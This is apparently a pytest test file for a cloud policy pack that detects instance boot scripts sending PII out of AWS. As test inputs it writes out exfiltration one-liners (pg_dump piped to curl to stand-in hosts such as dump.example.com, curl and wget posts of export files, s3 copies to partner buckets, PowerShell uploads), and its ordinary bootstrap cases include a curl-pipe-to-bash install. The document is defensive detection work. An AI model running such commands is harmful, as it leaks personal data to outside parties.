"""An instance's user data is code's configuration: read decoded, by what its commands do.

Reviewer blind spot 3 of issue #8: a boot script that dumps what the instance reaches and sends it out
(`pg_dump ... | curl -T - https://outside`, `aws s3 cp ... s3://partner-bucket`) passed: base64 user data
(`userDataBase64`, a launch template's `userData`) was never decoded, launch templates, launch
configurations, spot requests and Lightsail instances were not read as code, an upload's URL under no
endpoint key was taken for a link, and an instance profile's role was not followed, so an instance that
reads PII through it read nothing. Ordinary bootstrap scripts (EKS node bootstrap, cloud-init package
installs, an agent downloaded from S3's global endpoint) must stay clean; what cannot be read (user data
that does not decode, `#include`, a script computed from the PII database) fails closed. Each test is the
compliant baseline plus a PII bucket, a role that reads it, its instance profile and one instance.
"""

from __future__ import annotations

import base64
import gzip
import json
from typing import Any

import pytest

from tests.policies.baseline import Region, eu_region
from tests.policies.copies import PII
from tests.policies.policy_harness import UNKNOWN, Res, messages, violations

NO_PII = "no-pii-replication"
ANONYMISED_ONLY = "anonymised-only-replication"
BUCKET = "customer-exports-eu"
DB_HOST = "pii-db.c9akciq32abc.eu-west-1.rds.amazonaws.com"
INSTANCE = "aws:ec2/instance:Instance"
LAUNCH_TEMPLATE = "aws:ec2/launchTemplate:LaunchTemplate"


def _reader(region: Region) -> list[Res]:
    """A PII bucket, a role that reads it and the instance profile that carries the role."""
    bucket = Res("aws:s3/bucket:Bucket", BUCKET, {"bucket": BUCKET, "tags": dict(PII)}, region.provider)
    reads = {"Effect": "Allow", "Action": ["s3:GetObject"], "Resource": f"arn:aws:s3:::{BUCKET}/*"}
    trust = {"Effect": "Allow", "Principal": {"Service": "ec2.amazonaws.com"}, "Action": "sts:AssumeRole"}
    role = Res(
        "aws:iam/role:Role",
        "worker-role",
        {
            "name": "worker-role",
            "assumeRolePolicy": json.dumps({"Version": "2012-10-17", "Statement": [trust]}),
            "inlinePolicies": [
                {"name": "reads", "policy": json.dumps({"Version": "2012-10-17", "Statement": [reads]})}
            ],
        },
        region.provider,
    )
    profile = Res(
        "aws:iam/instanceProfile:InstanceProfile",
        "worker",
        {"name": "worker", "role": UNKNOWN},
        region.provider,
        deps={"role": [role]},
    )
    return [bucket, role, profile]


def _b64(script: str, compress: bool = False) -> str:
    data = script.encode()
    return base64.b64encode(gzip.compress(data) if compress else data).decode()


def _instance(region: Region, profile: Res, **user_data: Any) -> Res:
    return Res(
        INSTANCE,
        "worker",
        {
            "ami": "ami-0123456789abcdef0",
            "instanceType": "m7g.large",
            "iamInstanceProfile": UNKNOWN,
            **user_data,
        },
        region.provider,
        deps={"iamInstanceProfile": [profile]},
    )


def _launch_template(region: Region, profile: Res, user_data: Any) -> Res:
    return Res(
        LAUNCH_TEMPLATE,
        "workers",
        {"imageId": "ami-0123456789abcdef0", "iamInstanceProfile": {"arn": UNKNOWN}, "userData": user_data},
        region.provider,
        deps={"iamInstanceProfile": [profile]},
    )


def _found(region: Region, extra: list[Res], resource: Res, policy: str = NO_PII) -> list[Any]:
    return [d for d in violations([*region.resources, *extra, resource], policy) if d.urn == resource.urn]


DUMP = f"#!/bin/bash\npg_dump -h {DB_HOST} -U app app | curl -T - https://dump.example.com/in\n"


@pytest.mark.parametrize("form", ["userData", "userDataBase64", "userDataBase64 gzip", "launch template"])
def test_a_boot_script_that_uploads_a_dump_of_the_pii_database_copies_it_outside_aws(form: str) -> None:
    region = eu_region()
    extra = _reader(region)
    if form == "launch template":
        resource = _launch_template(region, extra[2], _b64(DUMP))
    elif form == "userData":
        resource = _instance(region, extra[2], userData=DUMP)
    else:
        resource = _instance(region, extra[2], userDataBase64=_b64(DUMP, "gzip" in form))
    found = _found(region, extra, resource)
    assert "https://dump.example.com/in" in messages(found) and "outside AWS" in messages(found), messages(
        found
    )


@pytest.mark.parametrize(
    ("script", "shown"),
    [
        ("aws s3 cp /var/lib/app s3://partner-drop/ --recursive --region ap-south-1", "s3://partner-drop/"),
        ("aws s3 sync /var/lib/app s3://partner-drop", "s3://partner-drop"),
        ("curl --data-binary @/var/lib/app/export.csv https://ingest.example.com/up", "ingest.example.com"),
        ("curl -sf -X POST -H 'Content-Type: text/csv' https://ingest.example.com/up", "ingest.example.com"),
        (
            'curl "https://collect.example.com/?d=$(base64 -w0 /var/lib/app/export.csv)"',
            "collect.example.com",
        ),
        ("wget --post-file=/var/lib/app/export.csv https://ingest.example.com/up", "ingest.example.com"),
        ("cd /var/lib/app && git push https://github.com/acme/exports.git main", "github.com/acme/exports"),
        (
            "aws s3api put-object --bucket partner-drop --key x.csv --body /var/lib/app/x.csv",
            "s3://partner-drop",
        ),
        ("s3cmd put /var/lib/app/x.csv s3://partner-drop/in/", "s3://partner-drop/in/"),
        (
            "aws s3 cp /var/lib/app s3://exports --recursive --endpoint-url https://s3.wasabisys.com",
            "wasabisys",
        ),
        (
            "Invoke-RestMethod -Method Post -InFile C:\\app\\export.csv -Uri https://ingest.example.com/up",
            "ingest.example.com",
        ),
        (
            "Write-S3Object -BucketName partner-drop -File C:\\app\\export.csv -Region ap-south-1",
            "partner-drop",
        ),
    ],
    ids=[
        "s3 cp",
        "s3 sync",
        "curl data",
        "curl POST",
        "curl substitution",
        "wget post",
        "git push",
        "s3api",
        "s3cmd",
        "s3-compatible endpoint",
        "powershell post",
        "powershell s3",
    ],
)
def test_an_instance_whose_profile_reads_pii_and_whose_script_sends_it_elsewhere_copies_it(
    script: str, shown: str
) -> None:
    region = eu_region()
    extra = _reader(region)
    resource = _instance(region, extra[2], userData=f"#!/bin/bash\nset -e\n{script}\n")
    found = _found(region, extra, resource)
    assert shown in messages(found) and "customer-exports-eu" in messages(found), messages(found)


@pytest.mark.parametrize(
    ("type_", "props"),
    [
        ("aws:ec2/spotInstanceRequest:SpotInstanceRequest", {"userData": DUMP}),
        ("aws:ec2/launchConfiguration:LaunchConfiguration", {"userDataBase64": _b64(DUMP)}),
        ("aws:lightsail/instance:Instance", {"userData": DUMP}),
    ],
)
def test_what_else_launches_instances_runs_its_user_data_as_code(type_: str, props: dict[str, Any]) -> None:
    region = eu_region()
    resource = Res(type_, "worker", props, region.provider)
    found = _found(region, [], resource)
    assert "https://dump.example.com/in" in messages(found), messages(found)


EKS_AL2 = """#!/bin/bash
set -ex
/etc/eks/bootstrap.sh customers --b64-cluster-ca LS0tLS1CRUdJTg== \\
  --apiserver-endpoint https://0123456789ABCDEF.gr7.eu-west-1.eks.amazonaws.com \\
  --kubelet-extra-args '--node-labels=role=worker'
"""
EKS_AL2023 = """MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="BOUNDARY"

--BOUNDARY
Content-Type: application/node.eks.aws

apiVersion: node.eks.aws/v1alpha1
kind: NodeConfig
spec:
  cluster:
    name: customers
    apiServerEndpoint: https://0123456789ABCDEF.gr7.eu-west-1.eks.amazonaws.com
    certificateAuthority: LS0tLS1CRUdJTg==
    cidr: 172.20.0.0/16

--BOUNDARY--
"""
CLOUD_INIT = """#cloud-config
package_update: true
yum_repos:
  docker-ce:
    baseurl: https://download.docker.com/linux/centos/9/x86_64/stable
    gpgkey: https://download.docker.com/linux/centos/gpg
packages:
  - postgresql16
  - docker-ce
runcmd:
  - yum install -y https://s3.amazonaws.com/ec2-downloads-windows/SSMAgent/latest/linux_arm64/amazon-ssm-agent.rpm
  - curl -fsSL https://get.docker.com -o /tmp/get-docker.sh
  - [ sh, -c, "curl -fsSL https://raw.githubusercontent.com/acme/tools/main/install.sh | bash" ]
  - git clone git@github.com:acme/app.git /opt/app
  - aws s3 cp s3://customer-exports-eu/config.json /etc/app/config.json
  - aws s3 cp /var/log/app.log s3://customer-exports-eu/logs/
  - curl -X POST http://10.10.3.4:8080/ready
"""


SSM_AGENT = (
    "https://s3.amazonaws.com/ec2-downloads-windows/SSMAgent/latest/windows_amd64/AmazonSSMAgentSetup.exe"
)
WINDOWS = rf"""<powershell>
Invoke-WebRequest {SSM_AGENT} -OutFile $env:TEMP\SSMAgent.exe
Start-Process -FilePath $env:TEMP\SSMAgent.exe -ArgumentList "/S" -Wait
Read-S3Object -BucketName customer-exports-eu -Key config.json -File C:\app\config.json
choco install -y postgresql16 --source https://community.chocolatey.org/api/v2/
</powershell>
"""


@pytest.mark.parametrize(
    "script",
    [EKS_AL2, EKS_AL2023, CLOUD_INIT, WINDOWS],
    ids=["eks al2", "eks al2023", "cloud-init", "windows"],
)
@pytest.mark.parametrize("form", ["userData", "launch template"])
def test_an_ordinary_bootstrap_script_on_an_instance_that_reads_pii_copies_nothing(
    script: str, form: str
) -> None:
    region = eu_region()
    extra = _reader(region)
    if form == "userData":
        resource = _instance(region, extra[2], userData=script)
    else:
        resource = _launch_template(region, extra[2], _b64(script))
    for policy in (NO_PII, ANONYMISED_ONLY):
        found = _found(region, extra, resource, policy)
        assert found == [], messages(found)


def test_an_instance_that_reads_no_personal_data_may_send_its_logs_anywhere() -> None:
    region = eu_region()
    resource = Res(
        INSTANCE,
        "worker",
        {"ami": "ami-1", "userData": "#!/bin/sh\ncurl -T /var/log/boot.log https://logs.example.com/"},
        region.provider,
    )
    assert _found(region, [], resource) == []


@pytest.mark.parametrize(
    ("props", "shown"),
    [
        ({"userDataBase64": base64.b64encode(b"\x00\x01\xfe\xffbinary").decode()}, "does not decode to text"),
        ({"userDataBase64": "not base64 at all!"}, "does not decode from base64"),
        ({"userData": "#include\nhttps://config.example.com/user-data.sh\n"}, "fetches from URLs"),
    ],
    ids=["binary", "not base64", "include"],
)
def test_user_data_the_pack_cannot_read_fails_closed_on_an_instance_that_reads_pii(
    props: dict[str, Any], shown: str
) -> None:
    region = eu_region()
    extra = _reader(region)
    resource = _instance(region, extra[2], **props)
    found = _found(region, extra, resource)
    assert shown in messages(found), messages(found)


@pytest.mark.preview_only("once deployed the engine sends the script's text, which is then read")
def test_a_script_computed_from_the_pii_database_fails_closed_until_it_can_be_read() -> None:
    region = eu_region()
    resource = Res(
        INSTANCE,
        "worker",
        {"ami": "ami-1", "userData": UNKNOWN},
        region.provider,
        deps={"userData": [region.database]},
    )
    found = _found(region, [], resource)
    assert "unknown at preview" in messages(found) and "pii-db" in messages(found), messages(found)


@pytest.mark.preview_only(
    "once deployed the engine sends the script's text (the harness would send the cluster's id)"
)
def test_a_node_bootstrap_computed_from_its_cluster_is_judged_once_it_can_be_read() -> None:
    region = eu_region()
    extra = _reader(region)
    template = _launch_template(region, extra[2], UNKNOWN)
    template.deps["userData"] = [region.cluster]
    found = _found(region, extra, template)
    assert found == [], messages(found)


def test_the_tags_an_instance_gives_its_volumes_name_no_place_it_sends_to() -> None:
    region = eu_region()
    extra = _reader(region)
    resource = _instance(region, extra[2], userData=EKS_AL2)
    resource.props["volumeTags"] = {"owner": "dpo@acme-corp.com", "runbook": "wiki.acme-corp.com/volumes"}
    found = _found(region, extra, resource)
    assert found == [], messages(found)


def test_a_cloud_config_list_item_running_a_shell_script_is_read_as_that_script() -> None:
    # `- [ sh, -c, "..." ]`: the script is one word, read as a script by the one reader of command lines.
    region = eu_region()
    extra = _reader(region)
    script = (
        "#cloud-config\nruncmd:\n"
        f'  - [ sh, -c, "pg_dump -h {DB_HOST} -U app app | curl -T - https://dump.example.com/in" ]\n'
    )
    resource = _instance(region, extra[2], userData=script)
    found = _found(region, extra, resource)
    assert "https://dump.example.com/in" in messages(found) and "outside AWS" in messages(found), messages(
        found
    )
